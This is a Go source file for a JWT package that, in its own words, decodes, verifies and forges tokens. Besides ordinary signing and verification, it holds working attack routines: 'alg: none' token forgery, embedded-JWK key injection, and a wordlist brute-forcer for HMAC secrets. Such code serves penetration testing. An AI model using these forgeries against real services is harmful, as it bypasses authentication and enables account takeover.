// Package jose decodes, verifies and forges JSON Web Tokens. Claims are
// never validated; only signatures are.
package jose

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"

	"github.com/golang-jwt/jwt/v5"

	"github.com/RowanDark/cipherkit/internal/cryptoerr"
	"github.com/RowanDark/cipherkit/internal/pubkey"
)

// ErrSecretNotFound is returned when no word in a wordlist verifies a token.
var ErrSecretNotFound = errors.New("jwt secret not found in wordlist")

// DefaultAlgorithms is used when the caller does not restrict algorithms.
var DefaultAlgorithms = []string{"HS256"}

// Decoded is an unverified view of a token.
type Decoded struct {
	Header    map[string]interface{} `json:"header"`
	Payload   jwt.MapClaims          `json:"payload"`
	Signature string                 `json:"signature"`
}

// Decode splits a token without checking its signature.
func Decode(token string) (Decoded, error) {
	token = strings.TrimSpace(token)
	parser := jwt.NewParser(jwt.WithoutClaimsValidation())
	claims := jwt.MapClaims{}
	parsed, parts, err := parser.ParseUnverified(token, claims)
	if err != nil {
		return Decoded{}, cryptoerr.New(cryptoerr.ErrInvalidInput, "token", err.Error())
	}
	return Decoded{Header: parsed.Header, Payload: claims, Signature: parts[2]}, nil
}

func hmacMethod(alg string) (jwt.SigningMethod, error) {
	switch strings.ToUpper(alg) {
	case "HS256":
		return jwt.SigningMethodHS256, nil
	case "HS384":
		return jwt.SigningMethodHS384, nil
	case "HS512":
		return jwt.SigningMethodHS512, nil
	default:
		return nil, cryptoerr.New(cryptoerr.ErrInvalidInput, "algorithm", fmt.Sprintf("unsupported HMAC algorithm %q", alg))
	}
}

func rsaMethod(alg string) (jwt.SigningMethod, error) {
	switch strings.ToUpper(alg) {
	case "RS256":
		return jwt.SigningMethodRS256, nil
	case "RS384":
		return jwt.SigningMethodRS384, nil
	case "RS512":
		return jwt.SigningMethodRS512, nil
	case "PS256":
		return jwt.SigningMethodPS256, nil
	default:
		return nil, cryptoerr.New(cryptoerr.ErrInvalidInput, "algorithm", fmt.Sprintf("unsupported RSA algorithm %q", alg))
	}
}

func normalizeAlgorithms(algs []string) ([]string, error) {
	if len(algs) == 0 {
		algs = DefaultAlgorithms
	}
	out := make([]string, 0, len(algs))
	for _, alg := range algs {
		m, err := hmacMethod(alg)
		if err != nil {
			return nil, err
		}
		out = append(out, m.Alg())
	}
	return out, nil
}

// Verify checks an HMAC signed token against secret and returns its claims.
func Verify(token string, secret []byte, algs []string) (jwt.MapClaims, error) {
	valid, err := normalizeAlgorithms(algs)
	if err != nil {
		return nil, err
	}
	return verify(strings.TrimSpace(token), secret, jwt.NewParser(jwt.WithValidMethods(valid), jwt.WithoutClaimsValidation()))
}

func verify(token string, secret []byte, parser *jwt.Parser) (jwt.MapClaims, error) {
	claims := jwt.MapClaims{}
	_, err := parser.ParseWithClaims(token, claims, func(t *jwt.Token) (interface{}, error) {
		if _, ok := t.Method.(*jwt.SigningMethodHMAC); !ok {
			return nil, fmt.Errorf("unexpected signing method: %v", t.Header["alg"])
		}
		return secret, nil
	})
	if err != nil {
		if errors.Is(err, jwt.ErrTokenMalformed) {
			return nil, cryptoerr.New(cryptoerr.ErrInvalidInput, "token", err.Error())
		}
		return nil, cryptoerr.New(cryptoerr.ErrAuthentication, "secret", err.Error())
	}
	return claims, nil
}

// Sign issues an HMAC signed token. No claims are added.
func Sign(claims map[string]interface{}, secret []byte, alg string) (string, error) {
	if len(secret) == 0 {
		return "", cryptoerr.New(cryptoerr.ErrInvalidKey, "secret", "secret must not be empty")
	}
	method, err := hmacMethod(alg)
	if err != nil {
		return "", err
	}
	signed, err := jwt.NewWithClaims(method, jwt.MapClaims(claims)).SignedString(secret)
	if err != nil {
		return "", fmt.Errorf("jwt signing failed: %w", err)
	}
	return signed, nil
}

// NoneToken builds an unsigned token with alg set to none. Extra header
// fields are kept, but alg is always overwritten.
func NoneToken(claims map[string]interface{}, header map[string]interface{}) (string, error) {
	h := make(map[string]interface{}, len(header)+1)
	for k, v := range header {
		h[k] = v
	}
	h["alg"] = "none"

	encHeader, err := segment(h)
	if err != nil {
		return "", fmt.Errorf("encode header: %w", err)
	}
	encClaims, err := segment(claims)
	if err != nil {
		return "", fmt.Errorf("encode claims: %w", err)
	}
	return encHeader + "." + encClaims + ".", nil
}

func segment(v interface{}) (string, error) {
	raw, err := json.Marshal(v)
	if err != nil {
		return "", err
	}
	return base64.RawURLEncoding.EncodeToString(raw), nil
}

// EmbeddedJWKToken signs claims with an RSA private key and embeds the
// matching public JWK in the header. A "kid" header is copied into the JWK.
func EmbeddedJWKToken(claims map[string]interface{}, privatePEM []byte, header map[string]interface{}, alg string) (string, error) {
	if alg == "" {
		alg = "RS256"
	}
	method, err := rsaMethod(alg)
	if err != nil {
		return "", err
	}
	priv, err := pubkey.ParsePrivateKeyPEM(privatePEM)
	if err != nil {
		return "", err
	}
	embedded, err := pubkey.PublicJWK(&priv.PublicKey)
	if err != nil {
		return "", err
	}
	if kid, ok := header["kid"]; ok && kid != "" {
		embedded["kid"] = kid
	}

	token := jwt.NewWithClaims(method, jwt.MapClaims(claims))
	for k, v := range header {
		token.Header[k] = v
	}
	token.Header["jwk"] = embedded
	token.Header["alg"] = method.Alg()

	signed, err := token.SignedString(priv)
	if err != nil {
		return "", fmt.Errorf("jwt signing failed: %w", err)
	}
	return signed, nil
}

// BruteforceResult reports the secret that verified a token.
type BruteforceResult struct {
	Header  map[string]interface{} `json:"header"`
	Payload jwt.MapClaims          `json:"payload"`
	Secret  string                 `json:"secret"`
}

// BruteforceOptions tunes Bruteforce.
type BruteforceOptions struct {
	Algorithms []string
	// Base64 encodes every word before trying it.
	Base64 bool
}

// Bruteforce tries every line of wordlist as the HMAC secret. It stops at the
// first match, on context cancellation, or with ErrSecretNotFound.
func Bruteforce(ctx context.Context, token string, wordlist io.Reader, opts BruteforceOptions) (BruteforceResult, error) {
	token = strings.TrimSpace(token)
	decoded, err := Decode(token)
	if err != nil {
		return BruteforceResult{}, err
	}
	valid, err := normalizeAlgorithms(opts.Algorithms)
	if err != nil {
		return BruteforceResult{}, err
	}
	parser := jwt.NewParser(jwt.WithValidMethods(valid), jwt.WithoutClaimsValidation())

	scanner := bufio.NewScanner(wordlist)
	for scanner.Scan() {
		if err := ctx.Err(); err != nil {
			return BruteforceResult{}, err
		}
		word := strings.TrimSpace(scanner.Text())
		if opts.Base64 {
			word = base64.StdEncoding.EncodeToString([]byte(word))
		}
		claims, err := verify(token, []byte(word), parser)
		if err != nil {
			continue
		}
		return BruteforceResult{Header: decoded.Header, Payload: claims, Secret: word}, nil
	}
	if err := scanner.Err(); err != nil {
		return BruteforceResult{}, fmt.Errorf("read wordlist: %w", err)
	}
	return BruteforceResult{}, ErrSecretNotFound
}
